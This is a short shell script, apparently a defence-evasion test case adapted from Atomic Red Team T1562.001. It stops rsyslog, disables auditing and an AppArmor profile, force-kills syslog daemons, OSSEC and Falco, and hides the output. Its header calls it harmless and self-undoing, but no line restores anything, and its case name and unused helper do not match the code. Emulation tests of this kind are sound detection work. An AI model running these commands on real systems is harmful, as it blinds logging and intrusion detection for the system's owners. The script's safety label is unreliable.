#!/bin/sh
# case: T1562.001-ld-preload-cleared-apparmor
# technique: Impair defences: aa-teardown, auditctl, sysctl, syslog stopped
# source: redcanaryco/atomic-red-team T1562.001-1 Disable syslog
# needs: sh
# expect: evasion exec
# where: container
# image: busybox debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
(service rsyslog stop; systemctl disable rsyslog; auditctl -e 0; aa-disable /etc/x; swapoff -a; killall -9 syslogd klogd; pkill -9 -f ossec; /etc/init.d/falco stop) >/dev/null 2>&1; true
exit 0
